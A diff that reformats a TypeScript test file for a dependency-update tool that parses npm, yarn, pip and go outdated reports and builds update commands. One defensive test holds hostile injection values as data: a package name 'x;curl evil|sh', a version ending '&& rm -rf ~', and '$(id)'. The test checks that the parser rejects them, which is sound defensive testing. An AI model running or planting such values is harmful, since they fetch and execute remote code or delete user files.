@@ -21,7 +21,13 @@ describe('outdated reports, read from each tool’s own output', () => {
   it('npm: current, wanted and latest per direct dependency; a package that is not installed is left out', () => {
     const found = parseNpmOutdated(`npm warn config something\n${fixture('npm-outdated.json')}`);
     expect(found.map((pkg) => pkg.name)).toEqual(['@acme/money', 'pinned', 'tint']);
-    expect(found.find((pkg) => pkg.name === 'tint')).toMatchObject({ current: '1.0.0', wanted: '1.0.4', latest: '1.1.0', dependencyType: 'dependencies', homepage: 'https://github.com/acme/tint#readme' });
+    expect(found.find((pkg) => pkg.name === 'tint')).toMatchObject({
+      current: '1.0.0',
+      wanted: '1.0.4',
+      latest: '1.1.0',
+      dependencyType: 'dependencies',
+      homepage: 'https://github.com/acme/tint#readme',
+    });
   });
 
   it('yarn 1: the table line of `yarn outdated --json`', () => {
@@ -34,18 +40,37 @@ describe('outdated reports, read from each tool’s own output', () => {
   it('pip: only the packages the repository declares, not pip itself or transitive ones', () => {
     const declared = declaredPythonNames(['# app\nrequests>=2.31\ndjango[argon2]==4.2.7 ; python_version >= "3.10"\n-r dev.txt\n']);
     expect([...declared].sort()).toEqual(['django', 'requests']);
-    expect(parsePipOutdated(fixture('pip-outdated.json'), declared).map((pkg) => `${pkg.name} ${pkg.current}→${pkg.latest}`)).toEqual(['requests 2.31.0→2.32.3', 'Django 4.2.7→5.1.4']);
-    const pyproject = declaredPythonNames(['[project]\nname = "shop"\ndependencies = [\n  "requests>=2.31",\n  "rich",\n]\n[tool.poetry.dependencies]\npython = "^3.11"\nhttpx = "^0.27"\n']);
+    expect(parsePipOutdated(fixture('pip-outdated.json'), declared).map((pkg) => `${pkg.name} ${pkg.current}→${pkg.latest}`)).toEqual([
+      'requests 2.31.0→2.32.3',
+      'Django 4.2.7→5.1.4',
+    ]);
+    const pyproject = declaredPythonNames([
+      '[project]\nname = "shop"\ndependencies = [\n  "requests>=2.31",\n  "rich",\n]\n[tool.poetry.dependencies]\npython = "^3.11"\nhttpx = "^0.27"\n',
+    ]);
     expect([...pyproject].sort()).toEqual(['httpx', 'requests', 'rich']);
   });
 
   it('go: direct requirements with an Update; the main module, indirect and current ones are left out', () => {
-    expect(parseGoListUpdates(fixture('go-list-updates.jsonl'))).toEqual([{ name: 'github.com/google/uuid', current: 'v1.5.0', wanted: 'v1.6.0', latest: 'v1.6.0', homepage: 'https://pkg.go.dev/github.com/google/uuid?tab=versions' }]);
-    expect(goManager().updateCommand({ name: 'github.com/google/uuid', current: 'v1.5.0', wanted: 'v1.6.0', latest: 'v1.6.0' }, 'v1.6.0', 'minor')).toBe("go get 'github.com/google/uuid@v1.6.0' && go mod tidy");
+    expect(parseGoListUpdates(fixture('go-list-updates.jsonl'))).toEqual([
+      {
+        name: 'github.com/google/uuid',
+        current: 'v1.5.0',
+        wanted: 'v1.6.0',
+        latest: 'v1.6.0',
+        homepage: 'https://pkg.go.dev/github.com/google/uuid?tab=versions',
+      },
+    ]);
+    expect(goManager().updateCommand({ name: 'github.com/google/uuid', current: 'v1.5.0', wanted: 'v1.6.0', latest: 'v1.6.0' }, 'v1.6.0', 'minor')).toBe(
+      "go get 'github.com/google/uuid@v1.6.0' && go mod tidy",
+    );
   });
 
   it('names that could break out of a shell command are dropped; ordinary ones pass (control)', () => {
-    const hostile = JSON.stringify({ 'x;curl evil|sh': { current: '1.0.0', wanted: '1.0.1', latest: '1.0.1' }, ok: { current: '1.0.0', wanted: '1.0.1', latest: '1.0.1 && rm -rf ~' }, fine: { current: '1.0.0', wanted: '1.0.1', latest: '1.0.1' } });
+    const hostile = JSON.stringify({
+      'x;curl evil|sh': { current: '1.0.0', wanted: '1.0.1', latest: '1.0.1' },
+      ok: { current: '1.0.0', wanted: '1.0.1', latest: '1.0.1 && rm -rf ~' },
+      fine: { current: '1.0.0', wanted: '1.0.1', latest: '1.0.1' },
+    });
     expect(parseNpmOutdated(hostile).map((pkg) => pkg.name)).toEqual(['fine']);
     expect(isNpmName('@scope/pkg.js')).toBe(true);
     expect(isNpmName('$(id)')).toBe(false);
@@ -59,20 +84,37 @@ describe('the plan', () => {
 
   it('default: patch and minor within the range; the major becomes a suggestion; a pin outside its range is named', () => {
     const plan = planUpdates(npmManager('package-lock.json'), outdated, { majors: false });
-    expect(plan.updates.map((update) => `${update.name} ${update.from}→${update.to} ${update.kind}`)).toEqual(['@acme/money 1.0.0→1.2.0 minor', 'tint 1.0.0→1.0.4 patch']);
+    expect(plan.updates.map((update) => `${update.name} ${update.from}→${update.to} ${update.kind}`)).toEqual([
+      '@acme/money 1.0.0→1.2.0 minor',
+      'tint 1.0.0→1.0.4 patch',
+    ]);
     expect(plan.updates[1]?.command).toBe('npm update --package-lock-only --ignore-scripts --no-audit --no-fund tint');
-    expect(plan.majors).toEqual([{ ecosystem: 'npm', name: '@acme/money', from: '1.0.0', to: '2.0.0', changelog: 'https://www.npmjs.com/package/@acme/money?activeTab=versions' }]);
+    expect(plan.majors).toEqual([
+      { ecosystem: 'npm', name: '@acme/money', from: '1.0.0', to: '2.0.0', changelog: 'https://www.npmjs.com/package/@acme/money?activeTab=versions' },
+    ]);
     expect(plan.skipped).toEqual([{ name: 'pinned', from: '3.0.0', to: '3.1.0', reason: 'outside the declared range' }]);
   });
 
   it('janitor-majors: the major is tried instead, rewriting the range', () => {
     const plan = planUpdates(npmManager('package-lock.json'), outdated, { majors: true });
     expect(plan.majors).toEqual([]);
-    expect(plan.updates.find((update) => update.name === '@acme/money')).toMatchObject({ to: '2.0.0', kind: 'major', command: 'npm install --package-lock-only --ignore-scripts --no-audit --no-fund @acme/money@^2.0.0' });
+    expect(plan.updates.find((update) => update.name === '@acme/money')).toMatchObject({
+      to: '2.0.0',
+      kind: 'major',
+      command: 'npm install --package-lock-only --ignore-scripts --no-audit --no-fund @acme/money@^2.0.0',
+    });
   });
 
   it('dependency order: a package another outdated one depends on goes first, whatever the alphabet says', () => {
-    const lock = JSON.stringify({ lockfileVersion: 3, packages: { '': {}, 'node_modules/colorize': { version: '1.0.0', dependencies: { tint: '^1.0.0' } }, 'node_modules/tint': { version: '1.0.0' }, 'node_modules/money': { version: '1.0.0' } } });
+    const lock = JSON.stringify({
+      lockfileVersion: 3,
+      packages: {
+        '': {},
+        'node_modules/colorize': { version: '1.0.0', dependencies: { tint: '^1.0.0' } },
+        'node_modules/tint': { version: '1.0.0' },
+        'node_modules/money': { version: '1.0.0' },
+      },
+    });
     expect(npmDependencyOrder(['colorize', 'money', 'tint'], lock)).toEqual(['tint', 'colorize', 'money']);
     expect(npmDependencyOrder(['colorize', 'money', 'tint'], 'not json')).toEqual(['colorize', 'money', 'tint']);
   });
@@ -94,7 +136,11 @@ describe('the plan', () => {
 
   it('a major suggestion has one fingerprint per package and target major', () => {
     const candidate = majorCandidate({ ecosystem: 'npm', name: 'money', from: '1.0.0', to: '2.1.0', changelog: 'https://github.com/acme/money/releases' });
-    expect(candidate).toMatchObject({ analyst: 'janitor', fingerprint: 'janitor:npm:money:major-2', title: '[Dependency] money 1.0.0 → 2.1.0 (major version)' });
+    expect(candidate).toMatchObject({
+      analyst: 'janitor',
+      fingerprint: 'janitor:npm:money:major-2',
+      title: '[Dependency] money 1.0.0 → 2.1.0 (major version)',
+    });
     expect(candidate.body).toContain('https://github.com/acme/money/releases');
   });
 });
@@ -106,8 +152,12 @@ describe('pinned requirements: the pin is rewritten for one package only', () =>
       const before = 'Django==4.2.7\nrequests==2.31.0  # http\nrequests-toolbelt==2.31.0\nflask[async] == 2.31.0\n';
       writeFileSync(join(dir, 'requirements.txt'), before);
       const manager = pipManager(new Set(['requests']), 'requirements.txt');
-      execFileSync('sh', ['-c', manager.updateCommand({ name: 'requests', current: '2.31.0', wanted: '2.32.3', latest: '2.32.3' }, '2.32.3', 'minor')], { cwd: dir });
-      expect(readFileSync(join(dir, 'requirements.txt'), 'utf8')).toBe('Django==4.2.7\nrequests==2.32.3  # http\nrequests-toolbelt==2.31.0\nflask[async] == 2.31.0\n');
+      execFileSync('sh', ['-c', manager.updateCommand({ name: 'requests', current: '2.31.0', wanted: '2.32.3', latest: '2.32.3' }, '2.32.3', 'minor')], {
+        cwd: dir,
+      });
+      expect(readFileSync(join(dir, 'requirements.txt'), 'utf8')).toBe(
+        'Django==4.2.7\nrequests==2.32.3  # http\nrequests-toolbelt==2.31.0\nflask[async] == 2.31.0\n',
+      );
     } finally {
       rmSync(dir, { recursive: true, force: true });
     }
